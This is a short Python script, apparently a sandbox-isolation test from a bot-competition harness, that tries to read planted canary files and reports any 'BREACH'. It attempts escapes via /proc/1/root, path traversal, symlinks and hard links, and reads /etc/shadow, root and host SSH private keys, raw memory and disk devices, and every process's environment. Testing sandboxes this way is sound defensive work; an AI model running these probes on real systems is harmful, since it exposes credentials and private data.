# attack: reads what is not its own: planted files, and the system's
# needs: files
import os
import signal
import sys

signal.alarm(20)


def breach(what):
    print("BREACH:", what, file=sys.stderr, flush=True)


def try_path(path):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        print("read", path, os.read(fd, 4096), file=sys.stderr)
    except OSError:
        return
    if path.startswith(("/etc/shadow", "/root", "/home")):
        breach(f"{path} could be read")


canaries = os.environ.get("SKIRMISH_CANARIES", "").split(":")
ways = ["", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../..", "/proc/self/cwd/../../../..", "/bot/../..", "/tmp/../.."]
for path in canaries:
    for way in ways:
        try_path(way + path)
    try:
        os.symlink(path, "/tmp/link")
        try_path("/tmp/link")
        os.unlink("/tmp/link")
        os.link(path, "/tmp/hard")
        try_path("/tmp/hard")
    except OSError:
        pass
for path in ["/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/root/.bash_history", "/root/.ssh/id_rsa", "/home", "/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/vda", "/dev/sda"]:
    try_path(path)
try:
    processes = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    processes = []
for process in processes:
    try_path(f"/proc/{process}/environ")
for number in range(3, 64):
    try:
        os.fstat(number)
        os.lseek(number, 0, os.SEEK_SET)
        print("read", number, os.read(number, 4096), file=sys.stderr)
    except OSError:
        pass
for name, value in os.environ.items():
    print("environment", name, value if name != "SKIRMISH_CANARIES" else "", file=sys.stderr)

for line in sys.stdin:
    print(os.environ.get("SKIRMISH_ANSWER", "ok"), flush=True)
